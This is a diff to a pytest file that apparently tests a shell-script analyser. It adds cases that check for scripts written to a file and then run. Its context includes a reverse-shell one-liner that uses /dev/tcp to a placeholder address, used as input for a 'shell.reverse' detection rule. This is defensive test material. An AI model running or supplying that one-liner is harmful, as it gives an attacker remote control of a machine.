@@ -68,6 +68,20 @@ def test_saved_and_run(script: str, told: bool) -> None:
 
 
 @pytest.mark.parametrize(
+    ("script", "texts"),
+    [
+        ("echo 'rm x' > a.sh; sh a.sh", ["rm x"]),
+        ("printf 'rm x' | tee a.sh; sh a.sh", []),
+        ("cat > a.sh <<'E'\nrm x\nE\nchmod +x a.sh && ./a.sh", ["rm x\n"]),
+        ("echo x > a.txt; cat a.txt", []),
+        ("sh a.sh; echo x > a.sh", []),
+    ],
+)
+def test_written_and_run(script: str, texts: list[str]) -> None:
+    assert [text.lstrip("\n") for text in flows.written(read_script(script))] == texts
+
+
+@pytest.mark.parametrize(
     ("command", "rule"),
     [
         ("bash -i >& /dev/tcp/203.0.113.5/1 0>&1", "shell.reverse"),
